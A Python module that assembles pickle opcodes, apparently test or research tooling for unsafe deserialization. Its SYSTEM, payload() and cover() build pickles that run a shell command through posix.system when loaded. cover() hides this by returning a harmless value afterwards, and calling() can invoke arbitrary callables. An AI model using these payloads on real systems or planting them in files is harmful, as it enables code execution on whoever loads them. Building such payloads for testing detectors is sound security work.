"""A pickle assembler: every function returns the bytes of one opcode, or of a short run of them. Never loads anything.

Names and layouts are those of CPython's Lib/pickle.py and Lib/pickletools.py. A pickle is a sum of pieces:

    proto(2) + reduce(glob("posix", "system"), text("echo > marker")) + STOP
"""

import struct

from case import COMMAND

MARK, STOP, POP, POP_MARK, DUP = b"(", b".", b"0", b"1", b"2"
NONE, TRUE, FALSE = b"N", b"\x88", b"\x89"
REDUCE, BUILD, INST, OBJ, NEWOBJ, NEWOBJ_EX = b"R", b"b", b"i", b"o", b"\x81", b"\x92"
EMPTY_LIST, EMPTY_DICT, EMPTY_TUPLE, EMPTY_SET = b"]", b"}", b")", b"\x8f"
LIST, DICT, TUPLE, TUPLE1, TUPLE2, TUPLE3, FROZENSET = b"l", b"d", b"t", b"\x85", b"\x86", b"\x87", b"\x91"
APPEND, APPENDS, SETITEM, SETITEMS, ADDITEMS = b"a", b"e", b"s", b"u", b"\x90"
STACK_GLOBAL, MEMOIZE, BINPERSID = b"\x93", b"\x94", b"Q"


def proto(version: int) -> bytes:
    return b"\x80" + bytes([version])


def frame(body: bytes, size: int | None = None) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body) if size is None else size) + body


def glob(module: str | bytes, name: str | bytes) -> bytes:
    """GLOBAL."""
    module, name = (part.encode() if isinstance(part, str) else part for part in (module, name))
    return b"c" + module + b"\n" + name + b"\n"


def inst(module: str, name: str, *arguments: bytes) -> bytes:
    """MARK, the arguments, INST."""
    return MARK + b"".join(arguments) + b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def text(value: str) -> bytes:
    """BINUNICODE."""
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def short_text(value: str) -> bytes:
    """SHORT_BINUNICODE."""
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def text8(value: str) -> bytes:
    """BINUNICODE8."""
    data = value.encode()
    return b"\x8d" + struct.pack("<Q", len(data)) + data


def unicode_line(value: str) -> bytes:
    """UNICODE, every character as \\uXXXX."""
    return b"V" + "".join(f"\\u{ord(one):04x}" for one in value).encode() + b"\n"


def string_line(value: str) -> bytes:
    """STRING."""
    return b"S" + repr(value).encode() + b"\n"


def binstring(value: str) -> bytes:
    return b"T" + struct.pack("<i", len(value)) + value.encode()


def short_binstring(value: str) -> bytes:
    return b"U" + bytes([len(value)]) + value.encode()


def binbytes(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def short_binbytes(value: bytes) -> bytes:
    return b"C" + bytes([len(value)]) + value


def binbytes8(value: bytes) -> bytes:
    return b"\x8e" + struct.pack("<Q", len(value)) + value


def bytearray8(value: bytes) -> bytes:
    return b"\x96" + struct.pack("<Q", len(value)) + value


def put(slot: int | str) -> bytes:
    return b"p" + str(slot).encode() + b"\n"


def get(slot: int | str) -> bytes:
    return b"g" + str(slot).encode() + b"\n"


def binput(slot: int) -> bytes:
    return b"q" + bytes([slot])


def binget(slot: int) -> bytes:
    return b"h" + bytes([slot])


def long_binput(slot: int) -> bytes:
    return b"r" + struct.pack("<I", slot)


def long_binget(slot: int) -> bytes:
    return b"j" + struct.pack("<I", slot)


def integer(value: int) -> bytes:
    """BININT, or LONG1 when it does not fit."""
    if -(2**31) <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    data = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def real(value: float) -> bytes:
    return b"G" + struct.pack(">d", value)


def persid(value: str) -> bytes:
    return b"P" + value.encode() + b"\n"


def ext(code: int, width: int) -> bytes:
    """EXT1, EXT2 or EXT4."""
    return {1: b"\x82", 2: b"\x83", 4: b"\x84"}[width] + code.to_bytes(width, "little")


def tuple_of(*items: bytes) -> bytes:
    short = {0: EMPTY_TUPLE, 1: TUPLE1, 2: TUPLE2, 3: TUPLE3}
    if len(items) in short:
        return b"".join(items) + short[len(items)]
    return MARK + b"".join(items) + TUPLE


def list_of(*items: bytes) -> bytes:
    return EMPTY_LIST + MARK + b"".join(items) + APPENDS


def dict_of(*pairs: tuple[bytes, bytes]) -> bytes:
    return EMPTY_DICT + MARK + b"".join(key + value for key, value in pairs) + SETITEMS


def reduce(callee: bytes, *arguments: bytes) -> bytes:
    return callee + tuple_of(*arguments) + REDUCE


def stack_global(module: bytes, name: bytes) -> bytes:
    return module + name + STACK_GLOBAL


class Ref(str):
    """A global inside a value given to `plain`, as "module:name"; the name may be dotted (then protocol 4 is needed)."""


class Raw(bytes):
    """Opcodes inside a value given to `plain`, taken as they are."""


class Call:
    """A call inside a value given to `plain`: a `Ref`, and its arguments."""

    def __init__(self, callee, *arguments):
        self.callee, self.arguments = callee, arguments


def plain(value) -> bytes:
    """The opcodes of a value made of plain data, `Ref`, `Raw` and `Call`."""
    if isinstance(value, Raw):
        return bytes(value)
    if isinstance(value, Ref):
        module, name = value.split(":")
        return stack_global(text(module), text(name))
    if isinstance(value, Call):
        return reduce(plain(value.callee), *map(plain, value.arguments))
    if value is None:
        return NONE
    if isinstance(value, bool):
        return TRUE if value else FALSE
    if isinstance(value, int):
        return integer(value)
    if isinstance(value, float):
        return real(value)
    if isinstance(value, str):
        return text(value)
    if isinstance(value, bytearray):
        return bytearray8(bytes(value))
    if isinstance(value, bytes):
        return binbytes(value)
    if isinstance(value, tuple):
        return tuple_of(*map(plain, value))
    if isinstance(value, list):
        return list_of(*map(plain, value))
    if isinstance(value, dict):
        return dict_of(*((plain(key), plain(one)) for key, one in value.items()))
    raise TypeError(f"no opcodes for {type(value).__name__}")


def calling(callee: str, *arguments, version: int = 4) -> bytes:
    """A whole pickle that calls `callee` ("module:name") with plain arguments."""
    return proto(version) + plain(Call(Ref(callee), *arguments)) + STOP


# The plainest payload: one call, no protocol header, no STOP.
SYSTEM = reduce(glob("posix", "system"), text(COMMAND))


def payload(version: int = 2) -> bytes:
    """A whole pickle with the plainest payload."""
    return (proto(version) if version >= 2 else b"") + SYSTEM + STOP


def cover(before: bytes = b"", value: bytes | None = None) -> bytes:
    """A pickle that runs the payload, throws its result away and then gives a harmless value."""
    return proto(2) + before + SYSTEM + POP + (EMPTY_DICT if value is None else value) + STOP


def calling_made(callee, *arguments, version: int = 4) -> bytes:
    """A whole pickle that calls what another call gives."""
    return proto(version) + plain(Call(callee, *arguments)) + STOP
